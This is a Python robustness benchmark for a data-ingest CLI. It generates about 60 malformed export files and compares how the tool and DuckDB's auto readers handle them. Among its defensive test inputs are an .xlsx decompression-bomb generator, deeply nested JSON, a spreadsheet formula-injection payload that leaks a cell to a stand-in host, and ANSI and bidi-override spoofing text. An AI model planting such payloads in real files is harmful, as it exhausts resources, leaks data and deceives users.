"""Hostile inputs: ~60 kinds of bad export files through `brandpulse ingest`, against DuckDB's auto readers.

Run by hand (not in CI): every file is generated here, each is ingested by the CLI in its
own subprocess against a fresh temporary database, and the outcome is classified:

- handled cleanly: exit 0, or exit 1 with a one-line message; no traceback;
- traceback: "Traceback" in the output, or any other exit status (a crash, a kill);
- rows lost or corrupted: each planted row carries a marker ``[tag-i]``; it must be stored
  with its exact text, or be in ``rejected_rows`` with its reason. A file refused whole
  with a one-line error loses nothing silently (the user is told; the database is unchanged).

The peer baseline reads the same files with DuckDB's ``read_csv`` / ``read_json`` auto
readers (``read_parquet``; pandas ``read_excel`` for .xlsx, as DuckDB needs an extension),
in a subprocess with a time limit, and counts its crashes and the planted rows missing or
altered in what it returns.

    .venv/bin/python benchmarks/hostile_inputs.py [--only TAG] [--keep]
"""

from __future__ import annotations

import argparse
import codecs
import json
import os
import shutil
import subprocess
import sys
import tempfile
import time
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
RESULTS = ROOT / "benchmarks" / "results" / "hostile_inputs.json"
PEER_TIMEOUT_S = 60
OURS_TIMEOUT_S = 300
HEADER = "id,created_at,text,likes,shares,rating"


def text_of(tag: str, i: int) -> str:
    return f"[{tag}-{i}] Café crème post {i}, the best"


def csv_rows(tag: str, count: int, **override: str) -> list[str]:
    """``count`` good rows as CSV lines; ``override`` replaces a column in every row."""
    lines = []
    for i in range(1, count + 1):
        values = {
            "id": f"{tag}{i}",
            "created_at": f"2024-03-{1 + i % 28:02d} 10:00:00",
            "text": '"' + text_of(tag, i) + '"',
            "likes": str(i),
            "shares": "1",
            "rating": str(1 + i % 5),
        }
        values.update(override)
        lines.append(",".join(values[name] for name in HEADER.split(",")))
    return lines


@dataclass
class Case:
    tag: str
    what: str
    suffix: str
    make: Callable[[Path, str], list[str]]  # writes the file; returns the planted texts
    valid: bool = False  # every row is legitimate: a quarantined one counts as lost


CASES: list[Case] = []


def case(tag: str, what: str, suffix: str = ".csv", valid: bool = False) -> Callable:
    def register(make: Callable[[Path, str], list[str]]) -> Callable:
        CASES.append(Case(tag, what, suffix, make, valid))
        return make

    return register


def _write_csv(
    path: Path,
    tag: str,
    lines: list[str],
    encoding: str = "utf-8",
    *,
    header: str = HEADER,
    newline: str = "\n",
) -> list[str]:
    """``header`` and ``lines``, each ended by ``newline``; returns the texts of rows 1 to n."""
    path.write_bytes((newline.join([header, *lines]) + newline).encode(encoding))
    return [text_of(tag, i) for i in range(1, len(lines) + 1)]


def _one_bad_value(column: str, value: str, rows: int = 20) -> Callable[[Path, str], list[str]]:
    """20 good rows, row 7 with ``column`` = ``value``."""

    def make(path: Path, tag: str) -> list[str]:
        lines = csv_rows(tag, rows)
        bad = csv_rows(tag, 7, **{column: value})[6]
        lines[6] = bad
        return _write_csv(path, tag, lines)

    return make


for _n, (_value, _what) in enumerate(
    [
        ("NaN", "likes = NaN"),
        ("inf", "likes = inf"),
        ("-inf", "likes = -inf"),
        ("1e30", "likes = 1e30"),
        ("12345678901234567890", "likes = a 20-digit integer"),
        ("-5", "likes = negative"),
        ('"1,234"', "likes = 1,234"),
        ("12k", "likes = 12k"),
        ("lots!", "likes = garbage text"),
    ]
):
    case(f"num{_n}", _what)(_one_bad_value("likes", _value))
case("rate0", "rating = NaN")(_one_bad_value("rating", "NaN"))
case("rate1", "rating = 1e30")(_one_bad_value("rating", "1e30"))
for _n, _value in enumerate(
    [
        "0001-01-01",
        "200000-01-01",
        "infinity",
        "-infinity",
        "9999-12-31",
        "2999-06-01",
        "99999999999999",
        "9999999999999",
        "1e30",
    ]
):
    case(f"date{_n}", f"created_at = {_value}")(_one_bad_value("created_at", _value))


def _unquoted_rows(tag: str, count: int) -> list[tuple[str, str]]:
    """(CSV line, text) of rows whose text is unquoted and has no comma, as many exports write."""
    rows = []
    for i in range(1, count + 1):
        text = text_of(tag, i).replace(",", "")
        rows.append((f"{tag}{i},2024-03-01 10:00:00,{text},{i},1,3", text))
    return rows


def _stray(path: Path, tag: str, count: int, closer: int, closer_text: str) -> list[str]:
    """Row 10 opens a quote it never closes; row ``closer`` holds ``closer_text`` as its text."""
    rows = _unquoted_rows(tag, count)
    rows[9] = (f'{tag}10,2024-03-01 10:00:00,"broken start,10,1,3', "")
    rows[closer - 1] = (f"{tag}{closer},2024-03-01 10:00:00,{closer_text},{closer},1,3", "")
    path.write_text("\n".join([HEADER] + [line for line, _ in rows]) + "\n", encoding="utf-8")
    planted = [text for _, text in rows]
    planted[closer - 1] = closer_text.strip('"')
    return planted[:9] + planted[10:]  # row 10 itself is broken: its text is not planted whole


case("stray1", "unclosed quote in row 10, quoted field in row 500 (1,000 rows)")(
    lambda path, tag: _stray(path, tag, 1000, 500, f'"[{tag}-500] quoted text"')
)
case("stray2", "unclosed quote in row 10, bare quote in row 500 (DuckDB accepts it)")(
    lambda path, tag: _stray(path, tag, 1000, 500, f'[{tag}-500] a 5" screen')
)
case("stray3", "unclosed quote in row 10 swallowing 4 rows")(
    lambda path, tag: _stray(path, tag, 100, 14, f'[{tag}-14] a 5" screen')
)
case("stray4", "unclosed quote in row 10 swallowing 1 row")(
    lambda path, tag: _stray(path, tag, 100, 12, f'[{tag}-12] a 5" screen')
)


@case("paragraphs", "legit multi-line quoted reviews", valid=True)
def _paragraphs(path: Path, tag: str) -> list[str]:
    lines, planted = [], []
    for i in range(1, 101):
        text = text_of(tag, i) + "\nSecond paragraph, with a comma.\nThird one."
        planted.append(text)
        lines.append(f'{tag}{i},2024-03-01 10:00:00,"{text}",{i},1,4')
    _write_csv(path, tag, lines)
    return planted


def _narrow_paragraphs(path: Path, tag: str, header: str, pattern: str) -> list[str]:
    """Reviews in a 2- or 3-column file whose paragraphs hold as many commas as a record."""
    lines, planted = [header], []
    for i in range(1, 101):
        text = f"[{tag}-{i}] Great product\n" + "\n".join([pattern] * (1 + i % 4))
        planted.append(text)
        lines.append(
            f'2024-03-{1 + i % 28:02d},"{text}"' + ("" if header.count(",") == 1 else ",4")
        )
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return planted


case("narrow2", "legit multi-line reviews, 2 columns, a comma in each paragraph", valid=True)(
    lambda path, tag: _narrow_paragraphs(path, tag, "date,text", "Fast shipping, good price")
)
case("narrow3", "legit multi-line reviews, 3 columns, two commas in each paragraph", valid=True)(
    lambda path, tag: _narrow_paragraphs(path, tag, "date,text,stars", "Sturdy, quiet, cheap")
)


@case("mixedenc", "UTF-8 file with one Windows-1252 row")
def _mixed(path: Path, tag: str) -> list[str]:
    lines = csv_rows(tag, 2000)
    data = ("\n".join([HEADER, *lines]) + "\n").encode("utf-8")
    data = data.replace(lines[999].encode("utf-8"), lines[999].encode("cp1252"))
    path.write_bytes(data)
    return [text_of(tag, i) for i in range(1, 2001)]


for _tag, _encoding in [
    ("cp1252", "cp1252"),
    ("latin1", "latin-1"),
    ("utf16", "utf-16"),
    ("utf8bom", "utf-8-sig"),
]:
    case(_tag, f"whole file in {_encoding}")(
        lambda path, tag, enc=_encoding: _write_csv(path, tag, csv_rows(tag, 30), enc)
    )


def _raw(data: bytes, planted: Callable[[str], list[str]] = lambda tag: []) -> Callable:
    def make(path: Path, tag: str) -> list[str]:
        path.write_bytes(data)
        return planted(tag)

    return make


case("empty", "empty file (0 bytes)")(_raw(b""))
case("header", "header only")(_raw((HEADER + "\n").encode()))
case("bomonly", "a UTF-8 BOM and nothing else")(_raw(codecs.BOM_UTF8))
case("blank", "only blank lines")(_raw(b"\n\n\n\n"))
case("binary", "binary garbage named .csv")(_raw(bytes(range(256)) * 64))
case("jsonincsv", "JSON content with a .csv suffix")(
    _raw(b'[{"text": "a", "created_at": "2024-01-01"}]')
)
case("csvinjson", "CSV content with a .json suffix", ".json")(_raw((HEADER + "\n1,2,3\n").encode()))
case("textinparquet", "text named .parquet", ".parquet")(_raw(b"not a parquet file\n" * 10))
case("garbxlsx", "garbage named .xlsx", ".xlsx")(_raw(b"PK\x03\x04 not really a zip" * 10))
case("noext", "no suffix at all", "")(_raw((HEADER + "\n").encode()))
case("wrongext", "unsupported suffix .pdf", ".pdf")(_raw(b"%PDF-1.4"))


@case("nul", "NUL bytes inside a field")
def _nul(path: Path, tag: str) -> list[str]:
    lines = csv_rows(tag, 20)
    lines[4] = lines[4].replace("Café", "Ca\x00fé")
    planted = _write_csv(path, tag, lines)
    planted[4] = planted[4].replace("Café", "Ca\x00fé")
    return planted


def _row_6_refused(line: Callable[[str], str]) -> Callable[[Path, str], list[str]]:
    """20 good rows, row 6 replaced by ``line(tag)``: a row that must not be stored."""

    def make(path: Path, tag: str) -> list[str]:
        lines = csv_rows(tag, 20)
        lines[5] = line(tag)
        planted = _write_csv(path, tag, lines)
        return planted[:5] + planted[6:]

    return make


case("longline", "one 20 MB line (over the record limit)")(
    _row_6_refused(lambda tag: f'{tag}6,2024-03-01 10:00:00,"{"x" * (20 << 20)}",6,1,3')
)
case("longtext", "a 200,000-character text (over max_text_chars)")(
    _row_6_refused(lambda tag: f'{tag}6,2024-03-01 10:00:00,"[{tag}-6] {"y" * 200_000}",6,1,3')
)


def _rows_under(header: str, row: str, count: int) -> Callable[[Path, str], list[str]]:
    """``count`` rows under ``header``; ``row`` formats each from {tag}, {i} and {text}."""

    def make(path: Path, tag: str) -> list[str]:
        lines = [row.format(tag=tag, i=i, text=text_of(tag, i)) for i in range(1, count + 1)]
        return _write_csv(path, tag, lines, header=header)

    return make


case("duphead", "duplicate header names")(
    _rows_under("id,created_at,text,text,text", '{tag}{i},2024-03-01,"{text}",x,y', 20)
)
case("emptyhead", "empty header names")(
    _rows_under("id,created_at,text,,", '{tag}{i},2024-03-01,"{text}",,', 20)
)


@case("ragged", "rows with too few and too many fields")
def _ragged(path: Path, tag: str) -> list[str]:
    lines = csv_rows(tag, 30)
    lines[3] = f"{tag}4,2024-03-01"
    lines[8] = lines[8] + ",extra,fields"
    planted = _write_csv(path, tag, lines)
    return planted[:3] + planted[4:8] + planted[9:]


for _tag, _what, _newline in [
    ("crlf", "CRLF line endings", "\r\n"),
    ("cronly", "CR-only line endings (classic Mac)", "\r"),
]:
    case(_tag, _what)(
        lambda path, tag, newline=_newline: _write_csv(
            path, tag, csv_rows(tag, 30), newline=newline
        )
    )
case("semicolon", "semicolon-delimited")(
    _rows_under("id;created_at;text;likes", "{tag}{i};2024-03-01;{text};{i}", 30)
)


@case("trailingdelim", "a trailing delimiter on every row")
def _trailing(path: Path, tag: str) -> list[str]:
    lines = [line + "," for line in csv_rows(tag, 30)]
    return _write_csv(path, tag, lines)


case("markdownhead", "Markdown image and ANSI escape in header names")(
    _rows_under(
        "id,created_at,text,![px](http://127.0.0.1:9/p.png) \x1b[31mred\x1b[0m",
        '{tag}{i},2024-03-01,"{text}",1',
        20,
    )
)


@case("controltext", "ANSI escapes and bidi controls in post text")
def _control(path: Path, tag: str) -> list[str]:
    texts = [text_of(tag, i) + " \x1b[2J\u202egnp.exe" for i in range(1, 21)]
    lines = [f'{tag}{i},2024-03-01,"{t}",1' for i, t in enumerate(texts, start=1)]
    path.write_text("id,created_at,text,likes\n" + "\n".join(lines) + "\n", encoding="utf-8")
    return texts


@case("formula", "spreadsheet formulas in text")
def _formula(path: Path, tag: str) -> list[str]:
    texts = [f'=HYPERLINK("http://x/?"&A1) {text_of(tag, i)}' for i in range(1, 11)]
    lines = [
        f'{tag}{i},2024-03-01,"{t.replace(chr(34), chr(34) * 2)}",1' for i, t in enumerate(texts, 1)
    ]
    path.write_text("id,created_at,text,likes\n" + "\n".join(lines) + "\n", encoding="utf-8")
    return texts


def _jsonl(records: list[str]) -> Callable:
    def make(path: Path, tag: str) -> list[str]:
        planted = [text_of(tag, i) for i in range(1, 11)]
        good = [
            json.dumps({"text": t, "created_at": "2024-03-01"}, ensure_ascii=False) for t in planted
        ]
        path.write_text("\n".join(good[:5] + records + good[5:]) + "\n", encoding="utf-8")
        return planted

    return make


_DEEP = '{"a": ' * 100_000 + "1" + "}" * 100_000
case("deepjsonl", "JSON Lines with a line nested 100,000 deep", ".jsonl")(_jsonl([_DEEP]))
case("deep70", "JSON Lines with a record nested 70 deep", ".jsonl")(
    _jsonl(['{"text": "x", "created_at": "2024-03-01", "n": ' + '{"a": ' * 70 + "1" + "}" * 71])
)
case("badjsonl", "JSON Lines with invalid lines", ".jsonl")(_jsonl(["{not json", "[1, 2]", "42"]))
case("bigjsonl", "JSON Lines with a 20 MB record", ".jsonl")(
    _jsonl([json.dumps({"text": "z" * (20 << 20), "created_at": "2024-03-01"})])
)
case("deepjson", "a JSON document nested 100,000 deep", ".json")(
    _raw(("[" * 100_000 + "]" * 100_000).encode())
)
case("scalarjson", "a JSON file holding a number", ".json")(_raw(b"42"))
case("truncjson", "a truncated JSON array", ".json")(
    _raw(b'[{"text": "a", "created_at": "2024-01-01"}, {"te')
)


@case("mixedjson", "a JSON array with non-object elements", ".json")
def _mixedjson(path: Path, tag: str) -> list[str]:
    planted = [text_of(tag, i) for i in range(1, 6)]
    items: list = [{"text": t, "created_at": "2024-03-01", "user": {"name": "x"}} for t in planted]
    path.write_text(
        json.dumps(items[:2] + [1, "two", [3]] + items[2:], ensure_ascii=False), encoding="utf-8"
    )
    return planted


@case("bomb", "an .xlsx decompression bomb: a real workbook, about 1 GB of sheet inside", ".xlsx")
def _bomb(path: Path, tag: str) -> list[str]:
    import pandas as pd

    real = path.with_suffix(".real.xlsx")
    pd.DataFrame({"text": ["a"], "created_at": ["2024-03-01"]}).to_excel(real, index=False)
    row = b'<row><c t="inlineStr"><is><t>aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa</t></is></c></row>'
    with (
        zipfile.ZipFile(real) as source,
        zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as book,
    ):
        for member in source.infolist():
            if member.filename != "xl/worksheets/sheet1.xml":
                book.writestr(member, source.read(member))
                continue
            with book.open(member.filename, "w", force_zip64=True) as sheet:
                sheet.write(
                    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                )
                sheet.write(b"<sheetData>")
                chunk = row * ((1 << 20) // len(row))
                for _ in range(1_080):
                    sheet.write(chunk)
                sheet.write(b"</sheetData></worksheet>")
    real.unlink()
    return []


@case("xlsxwide", "an .xlsx without dimension, one cell at column XFD in 2,000 rows", ".xlsx")
def _wide_bomb(path: Path, tag: str) -> list[str]:
    """Tiny, and under the size limit, but pandas widens all 2,000 rows to 16,384 cells."""
    import pandas as pd

    real = path.with_suffix(".real.xlsx")
    pd.DataFrame({"text": ["a"], "created_at": ["2024-03-01"]}).to_excel(real, index=False)
    rows = b"".join(
        b'<row r="%d"><c r="A%d" t="inlineStr"><is><t>x</t></is></c>'
        b'<c r="XFD%d" t="inlineStr"><is><t>y</t></is></c></row>' % (i, i, i)
        for i in range(1, 2_001)
    )
    with zipfile.ZipFile(real) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as book:
        for member in source.infolist():
            data = source.read(member)
            if member.filename == "xl/worksheets/sheet1.xml":
                data = (
                    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                    b"<sheetData>" + rows + b"</sheetData></worksheet>"
                )
            book.writestr(member, data)
    real.unlink()
    return []


@case("xlsxok", "a normal .xlsx", ".xlsx")
def _xlsx(path: Path, tag: str) -> list[str]:
    import pandas as pd

    planted = [text_of(tag, i) for i in range(1, 21)]
    pd.DataFrame({"text": planted, "created_at": ["2024-03-01"] * 20}).to_excel(path, index=False)
    return planted


# -- running -----------------------------------------------------------------------------

OURS_CHECK = """
import duckdb, json, sys
con = duckdb.connect(sys.argv[1], read_only=True)
stored = [r[0] for r in con.execute("SELECT text FROM documents").fetchall()]
rejected = [r[0] for r in con.execute("SELECT CAST(raw AS VARCHAR) FROM rejected_rows").fetchall()]
print(json.dumps({"stored": stored, "rejected": rejected}))
"""

PEER_READ = """
import duckdb, json, sys
path, suffix = sys.argv[1], sys.argv[2]
con = duckdb.connect()
if suffix in (".json", ".jsonl"):
    rows = con.execute("SELECT * FROM read_json(?)", [path]).fetchall()
elif suffix == ".parquet":
    rows = con.execute("SELECT * FROM read_parquet(?)", [path]).fetchall()
elif suffix == ".xlsx":
    import pandas as pd
    rows = pd.read_excel(path, dtype=str).values.tolist()
else:
    rows = con.execute("SELECT * FROM read_csv(?)", [path]).fetchall()
cells = [str(v) for row in rows for v in row if v is not None]
print(json.dumps({"rows": len(rows), "cells": cells}))
"""


def marker(text: str) -> str:
    return text.split("]", 1)[0] + "]"


def score(planted: list[str], stored: list[str], rejected: list[str]) -> tuple[int, int]:
    """(lost, corrupted) planted rows, given stored texts and rejected raw rows."""
    exact = set(stored)
    by_marker: dict[str, list[str]] = {}
    for text in stored:
        by_marker.setdefault(marker(text), []).append(text)
    rejected_blob = "\n".join(rejected)
    lost = corrupted = 0
    for text in planted:
        if text in exact:
            continue
        if by_marker.get(marker(text)):
            corrupted += 1
        elif marker(text) not in rejected_blob:
            lost += 1
    return lost, corrupted


def run_ours(path: Path, db: Path, planted: list[str], valid: bool) -> dict:
    started = time.perf_counter()
    try:
        done = subprocess.run(
            [sys.executable, "-m", "dashboard.cli", "ingest", str(path), "--db", str(db)],
            cwd=ROOT,
            capture_output=True,
            text=True,
            timeout=OURS_TIMEOUT_S,
            env={k: v for k, v in os.environ.items() if not k.startswith("BRANDPULSE_")},
        )
    except subprocess.TimeoutExpired:
        return {"outcome": "timeout", "lost": len(planted), "corrupted": 0}
    seconds = time.perf_counter() - started
    output = done.stdout + done.stderr
    errors = [line for line in done.stderr.splitlines() if line.strip()]
    result = {"exit": done.returncode, "seconds": round(seconds, 2), "message": errors[:2]}
    if "Traceback" in output or done.returncode not in (0, 1):
        result["outcome"] = "traceback"
    elif done.returncode == 1 and len(errors) != 1:
        result["outcome"] = "unclear message"
    else:
        result["outcome"] = "clean"
    lost = corrupted = 0
    if done.returncode == 0 and db.exists():
        check = subprocess.run(
            [sys.executable, "-c", OURS_CHECK, str(db)], capture_output=True, text=True, check=True
        )
        seen = json.loads(check.stdout)
        # In a file of valid rows, a quarantined row is a row lost.
        lost, corrupted = score(planted, seen["stored"], [] if valid else seen["rejected"])
        result["stored"], result["rejected"] = len(seen["stored"]), len(seen["rejected"])
    elif done.returncode == 1:
        result["refused_whole_file"] = True  # told in one line; nothing stored, nothing silent
    result["lost"], result["corrupted"] = lost, corrupted
    return result


def run_peer(path: Path, suffix: str, planted: list[str]) -> dict:
    try:
        done = subprocess.run(
            [sys.executable, "-c", PEER_READ, str(path), suffix],
            capture_output=True,
            text=True,
            timeout=PEER_TIMEOUT_S,
        )
    except subprocess.TimeoutExpired:
        return {
            "outcome": f"timeout after {PEER_TIMEOUT_S}s",
            "crash": True,
            "lost": len(planted),
            "corrupted": 0,
        }
    if done.returncode != 0:
        last = (done.stderr.strip().splitlines() or ["?"])[-1][:160]
        return {
            "outcome": "error",
            "crash": True,
            "error": last,
            "lost": len(planted),
            "corrupted": 0,
        }
    seen = json.loads(done.stdout)
    cells = seen["cells"]
    exact = set(cells)
    # A planted text inside a bigger cell (rows swallowed into one field) is corrupted, not present.
    blob = "\n".join(cells)
    lost = sum(1 for t in planted if t not in exact and marker(t) not in blob)
    corrupted = sum(1 for t in planted if t not in exact and marker(t) in blob)
    return {
        "outcome": "read",
        "crash": False,
        "rows": seen["rows"],
        "lost": lost,
        "corrupted": corrupted,
    }


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--only", help="run only cases whose tag starts with this")
    parser.add_argument("--keep", action="store_true", help="keep the generated files")
    args = parser.parse_args()
    work = Path(tempfile.mkdtemp(prefix="brandpulse-hostile-"))
    report = []
    try:
        for item in CASES:
            if args.only and not item.tag.startswith(args.only):
                continue
            path = work / f"{item.tag}{item.suffix}"
            planted = item.make(path, item.tag)
            ours = run_ours(path, work / f"{item.tag}.duckdb", planted, item.valid)
            peer = run_peer(path, item.suffix, planted)
            report.append(
                {
                    "tag": item.tag,
                    "what": item.what,
                    "planted": len(planted),
                    "ours": ours,
                    "duckdb": peer,
                }
            )
            print(
                f"{item.tag:14} {ours['outcome']:10} exit={ours.get('exit', '-')} "
                f"lost={ours['lost']} corrupted={ours['corrupted']} | duckdb: {peer['outcome']} "
                f"lost={peer['lost']} corrupted={peer['corrupted']}",
                flush=True,
            )
            if not args.keep:
                path.unlink(missing_ok=True)
    finally:
        if not args.keep:
            shutil.rmtree(work, ignore_errors=True)
    summary = {
        "tried": len(report),
        "ours": {
            "handled_cleanly": sum(r["ours"]["outcome"] == "clean" for r in report),
            "tracebacks": sum(r["ours"]["outcome"] == "traceback" for r in report),
            "other_failures": sum(
                r["ours"]["outcome"] not in ("clean", "traceback") for r in report
            ),
            "rows_lost": sum(r["ours"]["lost"] for r in report),
            "rows_corrupted": sum(r["ours"]["corrupted"] for r in report),
            "files_refused_with_one_line": sum(
                bool(r["ours"].get("refused_whole_file")) for r in report
            ),
        },
        "duckdb_auto_readers": {
            "crashes_or_timeouts": sum(r["duckdb"]["crash"] for r in report),
            "rows_lost": sum(r["duckdb"]["lost"] for r in report),
            "rows_corrupted": sum(r["duckdb"]["corrupted"] for r in report),
        },
        "planted_rows": sum(r["planted"] for r in report),
    }
    print(json.dumps(summary, indent=2))
    if not args.only:
        RESULTS.parent.mkdir(parents=True, exist_ok=True)
        RESULTS.write_text(
            json.dumps({"summary": summary, "cases": report}, indent=2, ensure_ascii=False) + "\n"
        )


if __name__ == "__main__":
    main()
